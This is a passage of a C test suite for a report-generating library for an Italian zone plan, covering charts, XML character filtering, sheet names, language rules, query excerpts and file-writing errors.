  html = render_plan (plan, PDZ_REPORT_FORMAT_HTML, "en");
  assert_contains (html, "<h1 class=\"title\">Monitoring report</h1>");
  assert_contains (html, "—");
}

/* A plan whose monitoring round runs from @dates[0] to the last, with
 * @per_date actions dated each of @dates */
static PdzPlan *
spanning_plan (PdzDate **dates,
               guint     n_dates,
               guint     per_date)
{
  PdzPlan *plan = pdz_plan_new ();
  g_autoptr(PdzObjective) objective = pdz_objective_new ("o", "Obiettivo");

  pdz_plan_set_title (plan, "Piano");
  pdz_plan_set_monitoring_start (plan, dates[0]);
  pdz_plan_set_monitoring_end (plan, dates[n_dates - 1]);
  g_assert_true (pdz_plan_add_objective (plan, objective, NULL));
  for (guint i = 0; i < n_dates * per_date; i++)
    {
      g_autofree char *id = g_strdup_printf ("a%u", i);
      g_autoptr(PdzAction) action = pdz_action_new (id, "Azione");

      pdz_action_set_date (action, dates[i / per_date]);
      g_assert_true (pdz_objective_add_action (objective, action, NULL));
    }
  return plan;
}

/* The chart over time of @plan's HTML report, or NULL with the sentence
 * that stands in for it in @sentence */
static char *
timeline_chart (PdzPlan  *plan,
                char    **sentence)
{
  g_autoptr(PdzReport) report = new_report (plan, PDZ_REPORT_FORMAT_HTML, NULL);
  g_autofree char *html = NULL;
  const char *start, *end;

  pdz_report_set_sections (report, PDZ_REPORT_SECTION_CHARTS);
  html = render (report);
  start = strstr (html, "<p class=\"no-chart\">");
  if (sentence != NULL)
    *sentence = start != NULL ? g_strndup (start, strstr (start, "</p>") - start) : NULL;
  start = strstr (html, "<figure class=\"chart\" id=\"chart-timeline\">");
  if (start == NULL)
    return NULL;
  end = strstr (start, "</figure>");
  g_assert_nonnull (end);
  return g_strndup (start, end - start);
}

/* The bars of a chart over time: its segments (each with a tooltip) */
#define ACTION_SEGMENT "fill=\"#0072B2\" stroke=\"#1a1a1a\" stroke-width=\"0.8\"><title>"

/* The actions per month of a plan over nine thousand years: the chart
 * groups them so that it stays readable, and the report small */
static void
test_timeline_wide (void)
{
  struct {
    PdzDate *dates[3];
    const char *title;
    guint n_bars;
  } cases[] = {
    /* nine thousand years: by periods of years */
    { { pdz_date_new_month (1000, 1), pdz_date_new_year (5000), pdz_date_new_month (9999, 12) },
      "Azioni e tappe per periodi di 500 anni", 3 },
    { { pdz_date_new_month (2022, 3), pdz_date_new_month (2022, 9), pdz_date_new_month (2023, 10) },
      "Azioni e tappe per mese", 3 },
    /* 36 months: still by month */
    { { pdz_date_new_month (2021, 1), pdz_date_new_month (2022, 6), pdz_date_new_month (2023, 12) },
      "Azioni e tappe per mese", 3 },
    /* 37 months: by quarter */
    { { pdz_date_new_month (2021, 1), pdz_date_new_month (2021, 2), pdz_date_new_month (2024, 1) },
      "Azioni e tappe per trimestre", 2 },
    /* 40 quarters: by year */
    { { pdz_date_new_month (2014, 1), pdz_date_new_day (2018, 6, 1), pdz_date_new_month (2023, 12) },
      "Azioni e tappe per anno", 3 },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(PdzPlan) plan = spanning_plan (cases[i].dates, 3, 3);
      g_autofree char *chart = timeline_chart (plan, NULL);
      g_autofree char *html = render_plan (plan, PDZ_REPORT_FORMAT_HTML, NULL);
      g_autofree char *md = render_plan (plan, PDZ_REPORT_FORMAT_MARKDOWN, "en");

      g_assert_nonnull (chart);
      g_assert_cmpuint (strlen (html), <, 500 * 1024);
      g_assert_cmpuint (strlen (md), <, 500 * 1024);
      assert_contains (chart, cases[i].title);
      /* the bars with an action: one per date */
      g_assert_cmpuint (count (chart, ACTION_SEGMENT), ==, cases[i].n_bars);
      /* never more than 36 slots: as many month, quarter or year labels */
      g_assert_cmpuint (count (chart, "class=\"tick\""), <=, 36);
      g_assert_cmpuint (count (chart, "class=\"tick\""), >=, 1);

      for (guint j = 0; j < 3; j++)
        pdz_date_free (cases[i].dates[j]);
    }
}

/* A chart over time is drawn when at least 8 dated actions and milestones
 * fall in the round, over at least 3 periods, at the finest unit at which
 * 80% of them are known; else one sentence says how many are dated, and
 * why there is no chart */
static void
test_timeline_rules (void)
{
  g_autoptr(PdzDate) march = pdz_date_new_month (2022, 3);
  g_autoptr(PdzDate) april = pdz_date_new_month (2022, 4);
  g_autoptr(PdzDate) may = pdz_date_new_month (2022, 5);
  g_autoptr(PdzDate) year = pdz_date_new_year (2022);

  /* 7 in 3 months: too few */
  {
    PdzDate *dates[] = { march, april, may };
    g_autoptr(PdzPlan) plan = spanning_plan (dates, 3, 3);
    g_autofree char *sentence = NULL;
    g_autofree char *chart = NULL;
    g_autoptr(PdzAction) extra = NULL;

    /* drop two of the nine: 7 */
    {
      PdzObjective *o = pdz_plan_lookup_objective (plan, "o");

      g_assert_true (pdz_objective_remove_action (o, pdz_plan_lookup_action (plan, "a0")));
      g_assert_true (pdz_objective_remove_action (o, pdz_plan_lookup_action (plan, "a1")));
    }
    chart = timeline_chart (plan, &sentence);
    g_assert_null (chart);
    assert_contains (sentence, "Nessun grafico nel tempo: hanno una data 7 tra azioni e tappe (7 azioni, 0 tappe), "
                               "di cui 7 nel periodo marzo 2022 – maggio 2022, in 3 mesi; un grafico ne richiede "
                               "almeno 8 nel periodo, in almeno 3 mesi.");
    g_clear_pointer (&sentence, g_free);

    /* a milestone makes 8: actions and milestones count alike */
    {
      g_autoptr(PdzMilestone) m = pdz_milestone_new (april, "Tappa");

      pdz_action_add_milestone (pdz_plan_lookup_action (plan, "a2"), m);
    }
    g_clear_pointer (&chart, g_free);
    chart = timeline_chart (plan, &sentence);
    g_assert_nonnull (chart);
    g_assert_null (sentence);
    assert_contains (chart, "Azioni e tappe per mese");
    assert_contains (chart, "aprile 2022: tappe: 1");
    assert_contains (chart, ">Tappe</text>");
    assert_contains (chart, ">Azioni</text>");
  }

  /* 9 in 2 months: too few periods */
  {
    PdzDate *dates[] = { march, april };
    g_autoptr(PdzPlan) plan = spanning_plan (dates, 2, 5);
    g_autofree char *sentence = NULL;
    g_autofree char *chart = timeline_chart (plan, &sentence);

    g_assert_null (chart);
    assert_contains (sentence, "di cui 10 nel periodo marzo 2022 – aprile 2022, in 2 mesi;");
  }

  /* The precision: 8 of 10 known to the month is enough for months... */
  {
    PdzDate *dates[] = { march, april, may, may, may, year };
    g_autoptr(PdzPlan) plan = spanning_plan (dates, 6, 2);
    g_autofree char *chart = NULL;

    pdz_plan_set_monitoring_end (plan, may);
    chart = timeline_chart (plan, NULL);
    g_assert_nonnull (chart);
    assert_contains (chart, "Azioni e tappe per mese");
  }
  /* ...7 of 10 is not: by year, and one year is too few periods */
  {
    PdzDate *dates[] = { march, april, may, may, year, year, year, may, march, april };
    g_autoptr(PdzPlan) plan = spanning_plan (dates, 10, 1);
    g_autofree char *sentence = NULL;
    g_autofree char *chart = NULL;

    pdz_plan_set_monitoring_end (plan, may);
    chart = timeline_chart (plan, &sentence);
    g_assert_null (chart);
    assert_contains (sentence, "in 1 anno;");
    assert_contains (sentence, "Il conteggio è per anno: solo 7 delle 10 nel periodo indicano il mese.");
  }

  /* Nothing dated */
  {
    g_autoptr(PdzPlan) plan = pdz_plan_new ();
    g_autoptr(PdzObjective) o = pdz_objective_new ("o", "O");
    g_autoptr(PdzAction) a = pdz_action_new ("a", "A");
    g_autofree char *sentence = NULL;
    g_autofree char *chart = NULL;

    g_assert_true (pdz_objective_add_action (o, a, NULL));
    g_assert_true (pdz_plan_add_objective (plan, o, NULL));
    chart = timeline_chart (plan, &sentence);
    g_assert_null (chart);
    assert_contains (sentence, "Nessun grafico nel tempo: nessuna azione né tappa ha una data.");
  }
}

/* Characters XML 1.0 forbids (U+000B, what Word writes for a soft line
 * break; U+001F; U+FFFE; U+FFFF) never reach an output */
static gboolean
has_forbidden_xml_char (const char *text,
                        gsize       length)
{
  const char *end = text + length;

  g_assert_true (g_utf8_validate (text, length, NULL));
  for (const char *p = text; p < end; p = g_utf8_next_char (p))
    {
      gunichar c = g_utf8_get_char (p);

      if ((c < 0x20 && c != '\t' && c != '\n' && c != '\r') || c == 0xfffe || c == 0xffff)
        return TRUE;
    }
  return FALSE;
}

static void
test_xml_chars (void)
{
  g_autoptr(PdzPlan) plan = pdz_test_load_test_data ("xml-chars.json", NULL);
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("pdz-report-XXXXXX", &error);

  g_assert_no_error (error);
  g_assert_true (strchr (pdz_plan_get_title (plan), '\v') != NULL);

  for (PdzReportFormat f = PDZ_REPORT_FORMAT_HTML; f <= PDZ_REPORT_FORMAT_CSV; f++)
    {
      g_autoptr(PdzReport) report = new_report (plan, f, NULL);

      pdz_report_set_include_diagnostics (report, TRUE);
      for (PdzReportTable t = PDZ_REPORT_TABLE_OBJECTIVES; t <= PDZ_REPORT_TABLE_FUNDINGS; t++)
        {
          g_autofree char *text = NULL;

          pdz_report_set_table (report, t);
          text = render (report);
          g_assert_false (has_forbidden_xml_char (text, strlen (text)));
          if (f != PDZ_REPORT_FORMAT_CSV)
            break;
        }
    }

  /* The Markdown's charts, as files: each parses as XML */
  {
    g_autoptr(PdzReport) report = new_report (plan, PDZ_REPORT_FORMAT_MARKDOWN, NULL);
    g_autofree char *path = g_build_filename (dir, "r.md", NULL);
    g_auto(GStrv) files = pdz_report_dup_output_files (report, path);

    g_assert_true (pdz_report_write_path (report, path, NULL, &error));
    g_assert_no_error (error);
    g_assert_cmpuint (g_strv_length (files), >=, 2);
    for (guint i = 0; files[i] != NULL; i++)
      {
        g_autofree char *contents = NULL;
        gsize length;

        g_assert_true (g_file_get_contents (files[i], &contents, &length, &error));
        g_assert_false (has_forbidden_xml_char (contents, length));
        if (i > 0)
          {
            static const GMarkupParser parser = { NULL, };
            g_autoptr(GMarkupParseContext) context = g_markup_parse_context_new (&parser, 0, NULL, NULL);

            g_assert_true (g_markup_parse_context_parse (context, contents, length, &error));
            g_assert_true (g_markup_parse_context_end_parse (context, &error));
            g_assert_no_error (error);
          }
        g_assert_cmpint (g_unlink (files[i]), ==, 0);
      }
  }
  g_assert_cmpint (g_rmdir (dir), ==, 0);

  /* the vertical tab is a line break, not a lost space */
  {
    g_autofree char *html = render_plan (plan, PDZ_REPORT_FORMAT_HTML, NULL);

    assert_contains (html, "<title>Piano\ndi Zona 2021–2023</title>");
  }
}

/* Sheet names: at most 31 characters, none of []:*?/\, no leading or
 * trailing apostrophe, never empty */
static void
test_sheet_names (void)
{
  struct {
    const char *in, *out;
  } cases[] = {
    { "Azioni", "Azioni" },
    { "a[b]c:d*e?f/g\\h", "a_b_c_d_e_f_g_h" },
    { "Un nome di foglio davvero troppo lungo per Excel", "Un nome di foglio davvero tropp" },
    { "àèìòù àèìòù àèìòù àèìòù àèìòù àèìòù", "àèìòù àèìòù àèìòù àèìòù àèìòù à" },
    { "'citato'", "citato" },
    { "\v\uffff", "_" },
    { "", "_" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *name = _pdz_report_sheet_name (cases[i].in);

      g_assert_cmpstr (name, ==, cases[i].out);
      g_assert_cmpint (g_utf8_strlen (name, -1), <=, 31);
    }

  /* and every catalog's sheet names are valid as they are */
  for (const PdzCatalog * const *cat = _pdz_catalog_list (); *cat != NULL; cat++)
    {
      for (PdzMsg m = PDZ_MSG_SHEET_SUMMARY; m <= PDZ_MSG_SHEET_FUNDINGS; m++)
        {
          g_autofree char *name = _pdz_report_sheet_name ((*cat)->strings[m]);

          g_assert_cmpstr (name, ==, (*cat)->strings[m]);
        }
    }
}

/* The report and the checks resolve the language by one rule */
static void
test_language_rule (void)
{
  struct {
    const char *requested, *plan, *expected;
  } cases[] = {
    { NULL, NULL, "it" },
    { NULL, "", "it" },
    { "", NULL, "it" },
    { NULL, "it", "it" },
    { NULL, "it_IT", "it" },
    { NULL, "it-IT", "it" },
    { NULL, "IT", "it" },
    { NULL, "it_IT.UTF-8", "it" },
    { NULL, "en-GB", "en" },
    { NULL, "de", "en" },
    { NULL, "ita", "en" },
    { "en", NULL, "en" },
    { "en", "it", "en" },
    { "it", "en", "it" },
    { "de", "it", "it" },
    { "de", NULL, "it" },
    { "de", "fr", "en" },
    { "EN_us", "it", "en" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(PdzPlan) plan = pdz_plan_new ();

      pdz_plan_set_language (plan, cases[i].plan);
      g_assert_cmpstr (_pdz_language_resolve (cases[i].requested, plan), ==, cases[i].expected);
    }
  g_assert_cmpstr (_pdz_language_resolve (NULL, NULL), ==, "it");
  g_assert_true (_pdz_language_is_supported ("it_IT"));
  g_assert_false (_pdz_language_is_supported ("ita"));
  g_assert_false (_pdz_language_is_supported (NULL));
}

/* A plan that names no language: its report and its diagnostics are both
 * in Italian; a check asked for a language libpdz lacks falls back like
 * the report, to the plan's */
static void
test_language_agrees_with_checks (void)
{
  g_autoptr(PdzPlan) plan = pdz_test_load_example ();
  g_autoptr(PdzCheckOptions) options = pdz_check_options_new ();
  g_autoptr(GListModel) diagnostics = NULL;
  g_autoptr(PdzDiagnostic) first = NULL;
  g_autoptr(PdzReport) report = new_report (plan, PDZ_REPORT_FORMAT_HTML, NULL);

  pdz_plan_set_language (plan, NULL);
  g_assert_cmpstr (pdz_report_get_effective_language (report), ==, "it");
  diagnostics = pdz_plan_check (plan, NULL);
  g_assert_cmpuint (g_list_model_get_n_items (diagnostics), >, 0);
  first = g_list_model_get_item (diagnostics, 0);
  /* "«...» dell'azione «...»", not "“...” of action “...”" */
  g_assert_nonnull (strstr (pdz_diagnostic_get_message (first), "dell'azione «"));
  g_clear_object (&diagnostics);
  g_clear_object (&first);

  pdz_plan_set_language (plan, "it_IT");
  pdz_check_options_set_language (options, "de");
  diagnostics = pdz_plan_check (plan, options);
  first = g_list_model_get_item (diagnostics, 0);
  g_assert_nonnull (strstr (pdz_diagnostic_get_message (first), "dell'azione «"));
}

/* A report limited by a query --------------------------------------------- */

/* The text of the HTML between @start and the next @end */
static char *
between (const char *html,
         const char *start,
         const char *end)
{
  const char *a = strstr (html, start);
  const char *b;

  g_assert_nonnull (a);
  b = strstr (a, end);
  g_assert_nonnull (b);
  return g_strndup (a, b - a);
}

static void
test_query_property (void)
{
  g_autoptr(PdzPlan) plan = pdz_test_load_example ();
  g_autoptr(PdzPlan) other = pdz_test_load_example ();
  g_autoptr(PdzReport) report = new_report (plan, PDZ_REPORT_FORMAT_HTML, NULL);
  g_autoptr(PdzQuery) query = pdz_query_new (plan);
  g_autoptr(PdzQuery) foreign = pdz_query_new (other);
  g_autoptr(GtSignalLogger) logger = gt_signal_logger_new ();
  g_autoptr(GError) error = NULL;
  g_autoptr(GBytes) bytes = NULL;
  PdzQuery *got = NULL;

  g_assert_null (pdz_report_get_query (report));
  gt_signal_logger_connect (logger, report, "notify");
  pdz_report_set_query (report, query);
  gt_signal_logger_assert_notify_emission_pop (logger, report, "query");
  pdz_report_set_query (report, query);
  gt_signal_logger_assert_no_emissions (logger);
  g_assert_true (pdz_report_get_query (report) == query);
  g_object_get (report, "query", &got, NULL);
  g_assert_true (got == query);
  g_object_unref (got);

  /* a query of another plan is refused when the report is written */
  pdz_report_set_query (report, foreign);
  gt_signal_logger_assert_notify_emission_pop (logger, report, "query");
  bytes = pdz_report_to_bytes (report, NULL, &error);
  g_assert_error (error, PDZ_ERROR, PDZ_ERROR_INVALID_VALUE);
  g_assert_null (bytes);
  g_clear_error (&error);

  pdz_report_set_query (report, NULL);
  gt_signal_logger_assert_notify_emission_pop (logger, report, "query");
  gt_signal_logger_assert_no_emissions (logger);
  bytes = pdz_report_to_bytes (report, NULL, &error);
  g_assert_no_error (error);
}

/* A report per macroarea, and one per partner: every figure is
 * PdzStats.new_for_query()'s, the sections show what it counts, and the
 * cover says it is an excerpt */
static void
test_query_subset (void)
{
  g_autoptr(PdzPlan) plan = pdz_test_load_example ();
  g_autoptr(PdzQuery) by_macroarea = pdz_query_new (plan);
  g_autoptr(PdzQuery) by_partner = pdz_query_new (plan);
  g_autoptr(PdzReport) report = new_report (plan, PDZ_REPORT_FORMAT_HTML, NULL);
  g_autofree char *html = NULL;
  g_autofree char *figures = NULL;
  g_autofree char *summary = NULL;
  g_autofree char *partners = NULL;
  g_autofree char *csv = NULL;
  g_autofree char *md = NULL;
  g_autoptr(PdzStats) stats = NULL;

  pdz_query_add_macroarea (by_macroarea, "politiche-abitative");
  stats = pdz_stats_new_for_query (by_macroarea);
  g_assert_cmpuint (pdz_stats_get_n_actions (stats), ==, 5);

  pdz_report_set_query (report, by_macroarea);
  html = render (report);
  assert_contains (html, "Estratto: 5 delle 31 azioni del Piano, scelte da una ricerca;");
  figures = between (html, "<ul class=\"figures\">", "</ul>");
  assert_contains (figures, "Obiettivi:</strong> <strong class=\"value\">2</strong>");
  assert_contains (figures, "Azioni:</strong> <strong class=\"value\">5</strong>");
  assert_contains (figures, "2 di 5 azioni concluse (40%)");
  assert_contains (figures, "1 di 5 azioni extra");
  summary = between (html, "<table class=\"summary\">", "</table>");
  assert_contains (summary, "Agenzia dell’Abitare");
  assert_contains (summary, "Emergenza abitativa");
  g_assert_null (strstr (summary, "Azioni di sistema"));
  g_assert_null (strstr (summary, "GOVERNANCE INTEGRATA"));
  /* only the macroarea's section, its objectives and bullets */
  assert_contains (html, ">Politiche abitative <em class=\"subtitle\">");
  g_assert_null (strstr (html, ">Azioni di sistema <em"));
  g_assert_null (strstr (html, "Obiettivi di integrazione sociosanitaria con ASST"));
  assert_contains (html, "CAS Ucraina");
  g_assert_null (strstr (html, "Adesione a progetto Inclusione Autismo"));
  /* the project the macroarea's action names, and the partners it has */
  assert_contains (html, "Progetto DGR7631/2017");
  g_assert_null (strstr (html, "Territori generativi"));
  partners = between (html, "<h2 id=\"partners\">", "</section>");
  assert_contains (partners, "ALER");
  assert_contains (partners, "Prefettura di Milano");
  g_assert_null (strstr (partners, "AFOL"));

  /* the same figures in the tables */
  pdz_report_set_format (report, PDZ_REPORT_FORMAT_CSV);
  pdz_report_set_table (report, PDZ_REPORT_TABLE_ACTIONS);
  csv = render (report);
  g_assert_cmpuint (count (csv, "\r\n"), ==, 5 + 1);
  g_clear_pointer (&csv, g_free);
  pdz_report_set_table (report, PDZ_REPORT_TABLE_OBJECTIVES);
  csv = render (report);
  g_assert_cmpuint (count (csv, "\r\n"), ==, 2 + 1);
  if (pdz_report_format_is_available (PDZ_REPORT_FORMAT_XLSX))
    {
      g_autoptr(GError) error = NULL;
      g_autoptr(GBytes) bytes = NULL;

      pdz_report_set_format (report, PDZ_REPORT_FORMAT_XLSX);
      bytes = pdz_report_to_bytes (report, NULL, &error);
      g_assert_no_error (error);
    }

  /* A report per partner: the Assemblea dei Sindaci, an own body */
  pdz_query_add_partner (by_partner, "ads");
  pdz_report_set_query (report, by_partner);
  pdz_report_set_format (report, PDZ_REPORT_FORMAT_MARKDOWN);
  md = render (report);
  assert_contains (md, "Estratto: 2 delle 31 azioni del Piano");
  assert_contains (md, "Partner:** **1** (oltre a 1 organo dell’Ambito)");
  assert_contains (md, "### Agenzia dell’Abitare");
  assert_contains (md, "### Rete della co-progettazione");
  g_assert_null (strstr (md, "### Emergenza abitativa"));
  g_assert_null (strstr (md, "## Progetti"));

  /* The query is read when the report is written */
  pdz_query_add_partner (by_partner, "aler");
  g_clear_pointer (&md, g_free);
  md = render (report);
  assert_contains (md, "Estratto: 3 delle 31 azioni del Piano");
}

/* Files ------------------------------------------------------------------- */

/* The formats that write one file, with a name for it */
static const struct {
  PdzReportFormat format;
  const char *name;
} one_file[] = {
  { PDZ_REPORT_FORMAT_HTML, "r.html" },
  { PDZ_REPORT_FORMAT_MARKDOWN, "r.md" },
  { PDZ_REPORT_FORMAT_CSV, "r.csv" },
  { PDZ_REPORT_FORMAT_XLSX, "r.xlsx" },
};

static int
compare_names (gconstpointer a,
               gconstpointer b)
{
  return strcmp (*(const char * const *) a, *(const char * const *) b);
}

/* The names in @dir, sorted and joined by spaces; "" when it is empty */
static char *
listing (const char *dir)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GDir) d = g_dir_open (dir, 0, &error);
  g_autoptr(GPtrArray) names = g_ptr_array_new_with_free_func (g_free);
  const char *name;

  g_assert_no_error (error);
  while ((name = g_dir_read_name (d)) != NULL)
    g_ptr_array_add (names, g_strdup (name));
  g_ptr_array_sort (names, compare_names);
  g_ptr_array_add (names, NULL);
  return g_strjoinv (" ", (char **) names->pdata);
}

/* The names (without directory) of @files, as listing() gives them */
static char *
listing_of (char **files)
{
  g_autoptr(GPtrArray) names = g_ptr_array_new_with_free_func (g_free);

  for (guint i = 0; files[i] != NULL; i++)
    g_ptr_array_add (names, g_path_get_basename (files[i]));
  g_ptr_array_sort (names, compare_names);
  g_ptr_array_add (names, NULL);
  return g_strjoinv (" ", (char **) names->pdata);
}

/* @error is about @path, the file the caller named: a G_IO_ERROR whose
 * message is "PATH: what", naming no other file (a temporary one beside
 * it, a private one in the temporary directory) nor a GLib function. */
static void
assert_names_file (const GError *error,
                   const char   *path)
{
  g_autofree char *display = g_filename_display_name (path);
  g_autofree char *prefix = g_strconcat (display, ": ", NULL);

  g_assert_nonnull (error);
  g_assert_true (error->domain == G_IO_ERROR);
  if (!g_str_has_prefix (error->message, prefix))
    g_error ("“%s” does not begin with “%s”", error->message, prefix);
  if (strchr (error->message + strlen (prefix), '/') != NULL ||
      strstr (error->message, "g_") != NULL ||
      strstr (error->message, ".tmp") != NULL)
    g_error ("“%s” names another file or a function", error->message);
}

/* A directory that does not exist is an error, as for cp: no writer makes
 * one on the way. Only a CSV report of every table makes its own, the
 * output itself, when its parent exists. */
static void
test_write_missing_directory (void)
{
  g_autoptr(PdzPlan) plan = load_injection ();
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("pdz-test-files-XXXXXX", &error);
  g_autofree char *missing = g_build_filename (dir, "missing", NULL);
  g_autofree char *tables = g_build_filename (dir, "tables", NULL);
  g_autofree char *plain = g_build_filename (dir, "plain", NULL);
  g_autoptr(PdzReport) csv = new_report (plan, PDZ_REPORT_FORMAT_CSV, NULL);
  g_autofree char *path = NULL;
  g_autofree char *names = NULL;

  g_assert_no_error (error);

  for (guint i = 0; i < G_N_ELEMENTS (one_file); i++)
    {
      g_autoptr(PdzReport) report = new_report (plan, one_file[i].format, NULL);
      g_autofree char *target = g_build_filename (missing, "sub", one_file[i].name, NULL);
      g_autoptr(GFile) file = g_file_new_for_path (target);

      if (!pdz_report_format_is_available (one_file[i].format))
        continue;
      pdz_report_set_table (report, PDZ_REPORT_TABLE_ACTIONS);

      g_assert_false (pdz_report_write_path (report, target, NULL, &error));
      g_assert_error (error, G_IO_ERROR, G_IO_ERROR_NOT_FOUND);
      assert_names_file (error, target);
      g_clear_error (&error);

      g_assert_false (pdz_report_write (report, file, NULL, &error));
      g_assert_error (error, G_IO_ERROR, G_IO_ERROR_NOT_FOUND);
      assert_names_file (error, target);
      g_clear_error (&error);

      g_assert_false (g_file_test (missing, G_FILE_TEST_EXISTS));
    }

  /* every table: into a directory whose parent does not exist, no */
  path = g_build_filename (missing, "tables", NULL);
  g_assert_false (pdz_report_write_path (csv, path, NULL, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_NOT_FOUND);
  assert_names_file (error, path);
  g_clear_error (&error);
  g_assert_false (g_file_test (missing, G_FILE_TEST_EXISTS));

  /* into a new directory whose parent exists, yes; and into it again */
  for (guint i = 0; i < 2; i++)
    {
      g_auto(GStrv) files = pdz_report_dup_output_files (csv, tables);
      g_autofree char *expected = listing_of (files);

      g_assert_true (pdz_report_write_path (csv, tables, NULL, &error));
      g_assert_no_error (error);
      names = listing (tables);
      g_assert_cmpstr (names, ==, expected);
      g_assert_cmpstr (names, ==, "actions.csv fundings.csv objectives.csv partners.csv projects.csv");
      g_clear_pointer (&names, g_free);
    }

  /* not over a file */
  g_assert_true (g_file_set_contents (plain, "old", -1, &error));
  g_assert_false (pdz_report_write_path (csv, plain, NULL, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_NOT_DIRECTORY);
  assert_names_file (error, plain);
  g_clear_error (&error);

  names = listing (dir);
  g_assert_cmpstr (names, ==, "plain tables");
  pdz_test_remove_tree (dir);
}

/* A target the report must not replace (a directory, a read-only file)
 * is refused with an error that names it, the old file is left whole,
 * and no temporary file stays behind, in every format */
static void
test_write_refused (void)
{
  g_autoptr(PdzPlan) plan = load_injection ();
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("pdz-test-files-XXXXXX", &error);

  g_assert_no_error (error);

  for (guint i = 0; i < G_N_ELEMENTS (one_file); i++)
    {
      g_autoptr(PdzReport) report = new_report (plan, one_file[i].format, NULL);
      g_autofree char *path = g_build_filename (dir, one_file[i].name, NULL);
      g_autofree char *contents = NULL;
      g_autofree char *names = NULL;
      g_autofree char *expected = NULL;
      g_auto(GStrv) files = NULL;

      if (!pdz_report_format_is_available (one_file[i].format))
        continue;
      pdz_report_set_table (report, PDZ_REPORT_TABLE_ACTIONS);

      /* a directory */
      g_assert_cmpint (g_mkdir (path, 0755), ==, 0);
      g_assert_false (pdz_report_write_path (report, path, NULL, &error));
      g_assert_error (error, G_IO_ERROR, G_IO_ERROR_IS_DIRECTORY);
      assert_names_file (error, path);
      g_clear_error (&error);
      g_assert_cmpint (g_rmdir (path), ==, 0);

      /* a read-only file (by its mode, even for root) */
      g_assert_true (g_file_set_contents (path, "old", -1, &error));
      g_assert_cmpint (g_chmod (path, 0444), ==, 0);
      g_assert_false (pdz_report_write_path (report, path, NULL, &error));
      g_assert_error (error, G_IO_ERROR, G_IO_ERROR_PERMISSION_DENIED);
      assert_names_file (error, path);
      g_clear_error (&error);
      g_assert_true (g_file_get_contents (path, &contents, NULL, &error));
      g_assert_cmpstr (contents, ==, "old");
      g_assert_cmpint (g_chmod (path, 0644), ==, 0);

      /* nothing else was left in the directory */
      names = listing (dir);
      g_assert_cmpstr (names, ==, one_file[i].name);
      g_clear_pointer (&names, g_free);

      /* and a writable one is replaced, with the files the report lists */
      g_assert_true (pdz_report_write_path (report, path, NULL, &error));
      g_assert_no_error (error);
      files = pdz_report_dup_output_files (report, path);
      expected = listing_of (files);
      names = listing (dir);
      g_assert_cmpstr (names, ==, expected);
      for (guint f = 0; files[f] != NULL; f++)
        g_assert_cmpint (g_unlink (files[f]), ==, 0);
    }

  pdz_test_remove_tree (dir);
}

/* pdz_report_write(): a local GFile is written as its path is; any other
 * is refused with PDZ_ERROR_UNSUPPORTED naming it; a cancelled write
 * writes nothing */
static void
test_write_gfile (void)
{
  g_autoptr(PdzPlan) plan = load_injection ();
  g_autoptr(PdzReport) report = new_report (plan, PDZ_REPORT_FORMAT_HTML, NULL);
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("pdz-test-files-XXXXXX", &error);
  g_autofree char *path = g_build_filename (dir, "r.html", NULL);
  g_autoptr(GFile) file = g_file_new_for_path (path);
  g_autoptr(GFile) remote = g_file_new_for_uri ("sftp://example.org/reports/r.html");
  g_autoptr(GCancellable) cancellable = g_cancellable_new ();
  g_autoptr(GBytes) bytes = pdz_report_to_bytes (report, NULL, &error);
  g_autofree char *contents = NULL;
  gsize length;

  g_assert_no_error (error);

  g_assert_true (pdz_report_write (report, file, NULL, &error));
  g_assert_no_error (error);
  g_assert_true (g_file_get_contents (path, &contents, &length, &error));
  g_assert_cmpmem (contents, length, g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes));
  g_assert_cmpint (g_unlink (path), ==, 0);

  g_assert_false (pdz_report_write (report, remote, NULL, &error));
  g_assert_error (error, PDZ_ERROR, PDZ_ERROR_UNSUPPORTED);
  g_assert_nonnull (strstr (error->message, "sftp://example.org/reports/r.html"));
  g_clear_error (&error);

  g_cancellable_cancel (cancellable);
  g_assert_false (pdz_report_write (report, file, cancellable, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
  g_clear_error (&error);
  g_assert_false (pdz_report_write_path (report, path, cancellable, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
  g_clear_error (&error);

  g_assert_false (g_file_test (path, G_FILE_TEST_EXISTS));
  g_assert_cmpint (g_rmdir (dir), ==, 0);
}

/* HTML, Markdown and CSV always; XLSX, PDF and ODP as built. A
 * format this build leaves out fails with PDZ_ERROR_UNSUPPORTED before
 * anything else, from every way of writing, and writes nothing. */
static void
test_formats_available (void)
{
  static const char * const names[] = { "HTML", "Markdown", "CSV", "XLSX", "PDF", "ODP" };
  g_autoptr(PdzPlan) plan = load_injection ();
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("pdz-test-files-XXXXXX", &error);
  g_autoptr(GEnumClass) klass = g_type_class_ref (PDZ_TYPE_REPORT_FORMAT);

  g_assert_no_error (error);
  G_STATIC_ASSERT (G_N_ELEMENTS (names) == PDZ_N_REPORT_FORMATS);
  g_assert_cmpuint (klass->n_values, ==, PDZ_N_REPORT_FORMATS);
  g_assert_cmpstr (g_enum_get_value (klass, PDZ_REPORT_FORMAT_PDF)->value_nick, ==, "pdf");
  g_assert_cmpstr (g_enum_get_value (klass, PDZ_REPORT_FORMAT_ODP)->value_nick, ==, "odp");

  g_assert_true (pdz_report_format_is_available (PDZ_REPORT_FORMAT_HTML));
  g_assert_true (pdz_report_format_is_available (PDZ_REPORT_FORMAT_MARKDOWN));
  g_assert_true (pdz_report_format_is_available (PDZ_REPORT_FORMAT_CSV));
  g_assert_cmpint (pdz_report_format_is_available (PDZ_REPORT_FORMAT_XLSX), ==, PDZ_HAVE_XLSX);
